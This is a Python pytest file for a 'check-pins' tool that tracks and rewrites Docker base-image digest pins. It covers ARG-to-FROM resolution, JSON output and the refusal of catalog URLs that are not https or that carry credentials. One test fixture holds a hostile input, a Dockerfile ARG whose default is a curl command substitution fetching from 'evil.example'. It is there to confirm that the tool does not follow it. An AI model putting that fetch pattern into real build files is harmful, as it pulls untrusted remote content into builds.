"""check-pins: tracking pins, build arguments followed into FROM, hostile Dockerfiles, --json, and a
catalog that names a digest the registry lacks (nothing written)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from builder.cli import main as cli
from tests.unit import test_check_pins as shared
from tests.unit.test_check_pins import NEW, OLD, REPO

registry_has_them = shared.registry_has_them  # autouse: the registry --fix looks digests up in
catalog = shared.catalog  # INDEX as a file


def run(catalog: Path, dockerfile: Path, *flags: str) -> int:
    return cli.main(["check-pins", "--catalog", str(catalog), str(dockerfile), *flags])


UPDATE = f"1.0.0 is outdated: 1.0.1 is the newest 1.x -> {REPO}:1.0.1@{NEW}"

# Dockerfile, its findings (line: text), the file after --fix.
CASES = [
    (
        "ARG default, braced",
        f"ARG BASE={REPO}:1.0.0\nFROM ${{BASE}}\n",
        [f"2: {REPO}:1.0.0 (ARG BASE, line 1): {UPDATE}"],
        f"ARG BASE={REPO}:1.0.1@{NEW}\nFROM ${{BASE}}\n",
    ),
    (
        "ARG default, plain, two stages",
        f"ARG BASE={REPO}:1.0.0\nFROM $BASE AS build\nRUN make\nFROM $BASE\n",
        [f"2: {REPO}:1.0.0 (ARG BASE, line 1): {UPDATE}", f"4: {REPO}:1.0.0 (ARG BASE, line 1): {UPDATE}"],
        f"ARG BASE={REPO}:1.0.1@{NEW}\nFROM $BASE AS build\nRUN make\nFROM $BASE\n",
    ),
    (
        "ARG default, quoted, with another",
        f'ARG TAG=1 BASE="{REPO}:1.0.0"\nFROM --platform=linux/amd64 ${{BASE}}\n',
        [f"2: {REPO}:1.0.0 (ARG BASE, line 1): {UPDATE}"],
        f'ARG TAG=1 BASE="{REPO}:1.0.1@{NEW}"\nFROM --platform=linux/amd64 ${{BASE}}\n',
    ),
    (
        "ARG continued over lines",
        f"ARG TAG=1 \\\n    # the base\n    BASE={REPO}:1.0.0\nFROM $BASE\n",
        [f"4: {REPO}:1.0.0 (ARG BASE, line 1): {UPDATE}"],
        f"ARG TAG=1 \\\n    # the base\n    BASE={REPO}:1.0.1@{NEW}\nFROM $BASE\n",
    ),
    (
        "FROM continued over lines",
        f"FROM --platform=$BUILDPLATFORM \\\n    {REPO}:1.0.0 \\\n    AS build\n",
        [f"1: {REPO}:1.0.0: {UPDATE}"],
        f"FROM --platform=$BUILDPLATFORM \\\n    {REPO}:1.0.1@{NEW} \\\n    AS build\n",
    ),
    # Docker: an ARG after the first FROM cannot be used in a FROM.
    ("ARG after the first FROM", f"FROM scratch AS empty\nARG BASE={REPO}:1.0.0\nFROM $BASE\n", [], None),
    ("ARG with command substitution", "ARG BASE=$(curl -s https://evil.example/x)\nFROM $BASE\n", [], None),
    (
        "ARG redefined to command substitution",
        f"ARG BASE={REPO}:1.0.0\nARG BASE=$(echo {REPO}:1.0.0)\nFROM ${{BASE}}\n",
        [],
        None,
    ),
    ("ARG without a default", "ARG BASE\nFROM $BASE\n", [], None),
    ("an expansion with a default", f"ARG BASE={REPO}:1.0.0\nFROM ${{BASE:-x}}\n", [], None),
]


@pytest.mark.parametrize(("text", "lines", "fixed"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_build_arguments_are_followed_into_from(
    tmp_path: Path, catalog: Path, capsys: pytest.CaptureFixture[str], text: str, lines: list[str], fixed: str | None
) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(text)
    assert run(catalog, dockerfile) == (1 if lines else 0)
    assert capsys.readouterr().out.splitlines() == [f"{dockerfile}:{line}" for line in lines] + [
        f"{len(lines)} outdated pin(s)"
    ]
    assert run(catalog, dockerfile, "--fix") == 0
    assert dockerfile.read_text() == (fixed or text)


def test_tracking_pins_are_reported_not_failures_unless_strict(
    tmp_path: Path, catalog: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile = tmp_path / "Dockerfile"
    text = f"FROM {REPO}:1 AS build\nFROM {REPO}:1.0\n"
    dockerfile.write_text(text)
    tracking = [
        f"{dockerfile}:1: {REPO}:1: tracking 1, now 1.0.1 ({NEW}) -> {REPO}:1@{NEW}",
        f"{dockerfile}:2: {REPO}:1.0: tracking 1.0, now 1.0.1 ({NEW}) -> {REPO}:1.0@{NEW}",
    ]
    assert run(catalog, dockerfile) == 0
    assert capsys.readouterr().out.splitlines() == [
        *tracking,
        "0 outdated pin(s), 2 tracking (they fail with --strict)",
    ]
    assert run(catalog, dockerfile, "--fix") == 0
    assert dockerfile.read_text() == text  # tracking on purpose: left alone
    capsys.readouterr()
    assert run(catalog, dockerfile, "--strict") == 1
    assert capsys.readouterr().out.splitlines() == [*tracking, "2 outdated pin(s)"]
    assert run(catalog, dockerfile, "--strict", "--fix") == 0
    assert dockerfile.read_text() == f"FROM {REPO}:1@{NEW} AS build\nFROM {REPO}:1.0@{NEW}\n"


def test_json_lists_every_finding(tmp_path: Path, catalog: Path, capsys: pytest.CaptureFixture[str]) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(f"ARG BASE={REPO}:1.0.0\nFROM $BASE\nFROM {REPO}:1\n")
    assert run(catalog, dockerfile, "--json") == 1
    assert json.loads(capsys.readouterr().out) == {
        "failing": 1,
        "fixed": [],
        "findings": [
            {
                "file": str(dockerfile),
                "line": 2,
                "image": REPO,
                "current": f"{REPO}:1.0.0",
                "proposed": f"{REPO}:1.0.1@{NEW}",
                "kind": "outdated",
                "message": UPDATE.partition(" -> ")[0],
                "arg": "BASE",
                "arg_line": 1,
            },
            {
                "file": str(dockerfile),
                "line": 3,
                "image": REPO,
                "current": f"{REPO}:1",
                "proposed": f"{REPO}:1@{NEW}",
                "kind": "tracking",
                "message": f"tracking 1, now 1.0.1 ({NEW})",
                "arg": None,
                "arg_line": None,
            },
        ],
    }


def test_a_digest_the_registry_lacks_stops_the_fix_and_nothing_is_written(
    tmp_path: Path, catalog: Path, registry_has_them: set[str], capsys: pytest.CaptureFixture[str]
) -> None:
    registry_has_them.discard(f"{REPO}@{NEW}")
    good, bad = tmp_path / "a" / "Dockerfile", tmp_path / "b" / "Dockerfile"
    for path, text in ((good, f"FROM {REPO}:1.0.0@{OLD}\n"), (bad, f"ARG BASE={REPO}:1@{OLD}\nFROM $BASE\n")):
        path.parent.mkdir()
        path.write_text(text)
    before = {path: path.read_bytes() for path in (good, bad)}
    assert cli.main(["check-pins", "--catalog", str(catalog), str(tmp_path), "--fix"]) == 20
    hint = (
        "(nothing was written; the catalog and the registry disagree: retry once the channel's release is "
        "pushed, or tell its maintainers)"
    )
    assert capsys.readouterr().err.splitlines() == [
        f"{good}:1: {REPO}:1.0.0@{OLD}: the catalog proposes {REPO}:1.0.1@{NEW}, but the registry has no "
        f"manifest {NEW} {hint}",
        f"{bad}:1: {REPO}:1@{OLD}: the catalog proposes {REPO}:1@{NEW}, but the registry has no manifest {NEW} {hint}",
        "error: the catalog names digests the registry does not have (2 problem(s))",
    ]
    assert {path: path.read_bytes() for path in (good, bad)} == before
    assert cli.main(["check-pins", "--catalog", str(catalog), str(tmp_path)]) == 1  # still reported
    assert capsys.readouterr().out.splitlines()[-1] == "2 outdated pin(s)"


def test_a_pin_that_cannot_be_located_once_stops_the_fix(
    tmp_path: Path, catalog: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first, second = tmp_path / "Dockerfile.a", tmp_path / "Dockerfile.b"
    first.write_text(f"FROM {REPO}:1.0.0\n")
    # A custom escape character: the continuation is not seen, the reference is not on the FROM's line.
    second.write_text(f"# escape=`\nFROM --platform=linux/amd64 `\n    {REPO}:1.0.0\n")
    before = second.read_text()
    assert cli.main(["check-pins", "--catalog", str(catalog), str(tmp_path), "--fix"]) == 2
    assert capsys.readouterr().err.strip() == (
        f"error: {second}:2: {REPO}:1.0.0: found 0 times in the instruction, so not rewritten (nothing was written); "
        f"set it to {REPO}:1.0.1@{NEW} by hand"
    )
    assert first.read_text() == f"FROM {REPO}:1.0.0\n"
    assert second.read_text() == before


@pytest.mark.parametrize(
    ("url", "message"),
    [
        (
            "http://catalog.example/index.json",
            "http://catalog.example/index.json: the catalog URL must be https (plain http only on 127.0.0.1); "
            "pass --catalog PATH or an https URL of the channel's index.json",
        ),
        (
            "http://localhost:8000/index.json",
            "http://localhost:8000/index.json: the catalog URL must be https (plain http only on 127.0.0.1); "
            "pass --catalog PATH or an https URL of the channel's index.json",
        ),
        (
            "ftp://catalog.example/index.json",
            "ftp://catalog.example/index.json: the catalog URL must be https (plain http only on 127.0.0.1); "
            "pass --catalog PATH or an https URL of the channel's index.json",
        ),
        (
            "https://user:secret@catalog.example/index.json",
            "https://catalog.example: catalog URL with credentials in it; the catalog is public: remove them",
        ),
        (
            "https:///index.json",
            "https:///index.json: the catalog URL must be https (plain http only on 127.0.0.1); "
            "pass --catalog PATH or an https URL of the channel's index.json",
        ),
    ],
)
def test_catalog_urls_other_than_https_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], url: str, message: str
) -> None:
    (tmp_path / "Dockerfile").write_text(f"FROM {REPO}:1\n")
    assert cli.main(["check-pins", "--catalog", url, str(tmp_path / "Dockerfile")]) == 2
    assert capsys.readouterr().err.strip() == f"error: {message}"
